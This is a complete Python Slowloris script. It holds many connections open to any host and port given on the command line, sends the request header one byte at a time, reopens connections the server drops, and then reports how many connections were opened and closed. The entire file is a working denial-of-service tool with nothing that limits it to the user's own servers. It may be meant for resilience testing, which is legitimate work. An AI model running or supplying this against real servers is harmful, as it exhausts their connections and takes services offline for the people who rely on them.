#!/usr/bin/env python3
"""Slowloris against an HTTP endpoint: keeps N connections open, each sending the header of a
request one byte at a time (a byte per connection every INTERVAL seconds) and never finishing it;
a connection the server closes is opened again at the next tick, as slowloris tools do. Runs
for SECONDS, then prints how many connections it opened and how many the server closed.

    slowloris.py HOST PORT N SECONDS [INTERVAL]
"""
import selectors
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
interval = float(sys.argv[5]) if len(sys.argv) > 5 else 0.5
REQUEST = b"GET /healthz HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: " + b"a" * 100000

sel = selectors.DefaultSelector()
opened = closed = 0
sent = {}  # socket -> bytes of REQUEST sent


def open_one():
    global opened
    try:
        s = socket.create_connection((host, port), timeout=2)
    except OSError:
        return
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)
    sent[s] = 0
    opened += 1


def drop(s):
    global closed
    closed += 1
    sel.unregister(s)
    del sent[s]
    s.close()


for _ in range(n):
    open_one()
end = time.time() + seconds
next_dribble = time.time()
while time.time() < end:
    for key, _ in sel.select(timeout=0.05):
        try:
            data = key.fileobj.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server: come back at the next tick
            drop(key.fileobj)
    if time.time() >= next_dribble:
        next_dribble += interval
        for _ in range(n - len(sent)):
            open_one()
        for s in list(sent):
            try:
                s.send(REQUEST[sent[s]:sent[s] + 1])
                sent[s] += 1
            except OSError:
                drop(s)
print(f"opened {opened} closed {closed}")
